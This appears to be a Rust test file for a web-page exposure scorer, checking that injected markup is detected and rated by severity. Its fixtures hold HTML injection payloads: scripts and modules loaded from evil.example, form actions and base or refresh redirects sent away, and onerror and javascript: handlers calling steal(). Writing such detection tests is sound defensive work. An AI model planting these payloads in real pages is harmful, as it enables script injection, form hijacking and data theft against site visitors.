//! Markup injected into a page is reported by name, and does not change the points of the first
//! rules.

use super::scored;
use super::stories::{changes, keys, said_of};
use varve_score::ExposureSeverity::{High, Low, Medium};

/// The report of injected markup: the rule, its severity, and words of its sentence.
#[test]
fn injected_markup_is_reported_by_name() {
    let plain = scored("https://x.test/", &[], b"<body><p>text</p>");
    for (markup, rule, severity, words) in [
        (
            "<svg><script href='https://evil.example/s.js'></script></svg>",
            "third_party_script_added",
            Medium,
            "https://evil.example/s.js",
        ),
        (
            "<svg><script xlink:href=//evil.example/s.js></script></svg>",
            "third_party_script_added",
            Medium,
            "//evil.example/s.js",
        ),
        ("<base href=https://evil.example/>", "base_sent_away", High, "lead to another site now: base[href="),
        (
            "<form id=f></form><button form=f formaction=//evil.example/x>",
            "submitter_sent_away",
            High,
            "https://evil.example/x",
        ),
        (
            "<input type=submit formaction=http://x.test/y>",
            "submitter_sent_unencrypted",
            High,
            "http://x.test/y",
        ),
        ("<button formaction=/other>", "submitter_added", Low, "https://x.test/other"),
        (
            "<object data=https://evil.example/o.swf></object>",
            "third_party_embed_added",
            Medium,
            "https://evil.example/o.swf",
        ),
        ("<embed src=/own.swf>", "embed_added", Low, "/own.swf"),
        (
            "<meta http-equiv=Refresh content='0; url=https://evil.example/'>",
            "refresh_sent_away",
            High,
            "https://evil.example/",
        ),
        ("<meta http-equiv=refresh content='5;/next'>", "refresh_added", Low, "https://x.test/next"),
        ("<a href='java\nscript:steal()'>", "script_link_added", Low, "steal()"),
        (
            "<script type=module>import {a} from \"https://evil.example/m.js\"</script>",
            "third_party_module_added",
            Medium,
            "https://evil.example/m.js",
        ),
        (
            "<script>import('//evil.example/m.js')</script>",
            "third_party_module_added",
            Medium,
            "https://evil.example/m.js",
        ),
        ("<img src=x onerror=steal()>", "handler_added", Low, "img[onerror], img[src=\"x\"], `steal()`"),
        (
            "<iframe src=https://evil.example/></iframe>",
            "third_party_frame_added",
            Medium,
            "iframe[src=\"https://evil.example/\"]",
        ),
        ("<iframe src=/own></iframe>", "frame_added", Low, "New frame: iframe[src=\"/own\"]"),
    ] {
        let head = scored("https://x.test/", &[], format!("<body><p>text</p>{markup}").as_bytes());
        let told = changes(&plain, &head);
        let change = told.iter().find(|change| change.rule.name() == rule);
        let change = change.unwrap_or_else(|| panic!("{markup}: {told:#?}"));
        assert_eq!(change.severity, severity, "{markup}");
        assert!(change.detail.contains(words), "{markup}: {}", change.detail);
        assert_eq!(changes(&head, &head), [], "{markup}");
    }
}

/// Markup that looks alike but leads nowhere is not reported.
#[test]
fn harmless_markup_is_not_reported() {
    let plain = scored("https://x.test/", &[], b"<body><p>text</p>");
    for harmless in [
        "<a href='javascript:void(0);'>",
        "<base href=/sub/>",
        "<script>'import(\"//evil.example/\")'</script>",
        "<meta http-equiv=refresh content=5>",
    ] {
        let head = scored("https://x.test/", &[], format!("<body><p>text</p>{harmless}").as_bytes());
        assert!(
            changes(&plain, &head).iter().all(|change| change.rule.name() == "script_added"),
            "{harmless}"
        );
    }
}

/// The first rules keep their points, independently of rules without points.
#[test]
fn reported_elements_without_points_do_not_change_the_score() {
    let page = |body: &str| scored("https://x.test/", &[], body.as_bytes());
    let svg = page("<svg><script href=https://evil.example/s.js></script></svg>");
    assert!((svg.exposure - 0.03).abs() < 1e-9, "as an inline script: {}", svg.exposure);
    assert!(keys(&svg).contains(&"script_svg") && keys(&svg).contains(&"script_third_party"));
    assert!(!keys(&svg).contains(&"script_inline"));
    let told = page(
        "<base href=//e.example><object data=o></object><a href=javascript:x()><button formaction=/x><meta http-equiv=refresh content='0;/x'>",
    );
    assert_eq!(told.exposure, 0.0);
    for key in [
        "base_third_party",
        "submitter_third_party",
        "embed_third_party",
        "refresh_third_party",
        "script_link",
    ] {
        assert!(keys(&told).contains(&key), "{key}: {:?}", keys(&told));
    }
}

/// A form without an action sends to its page, and `base` does not change that. One more of the
/// same is one more.
#[test]
fn forms_without_action_send_home_and_are_counted() {
    let page = |body: &str| scored("https://x.test/", &[], body.as_bytes());
    let one = page("<form><input name=q></form>");
    let away = page("<base href=https://evil.example/><form><input name=q></form>");
    assert!(changes(&one, &away).iter().all(|change| change.kind == "base_changed"));
    assert!(!keys(&away).contains(&"form_third_party"));
    let two = page("<form><input name=q></form><form><input name=q></form>");
    let kinds = |base, head| changes(base, head).iter().map(|change| change.kind).collect::<Vec<_>>();
    assert_eq!((kinds(&one, &two), kinds(&two, &one)), (vec!["form_added"], vec!["form_removed"]));
}

/// Of many changes those are named that strangers have a hand in.
#[test]
fn a_frame_of_another_site_is_not_lost_among_the_small_changes() {
    let many: String = (0..20).map(|number| format!("<script src=/{number}.js></script>")).collect();
    let head = format!("{many}<iframe src=https://evil.example/></iframe>");
    let told =
        said_of(&scored("https://x.test/", &[], b""), &scored("https://x.test/", &[], head.as_bytes()));
    assert_eq!(
        told[0],
        "https://x.test/: New frame that shows another site: iframe[src=\"https://evil.example/\"]."
    );
}
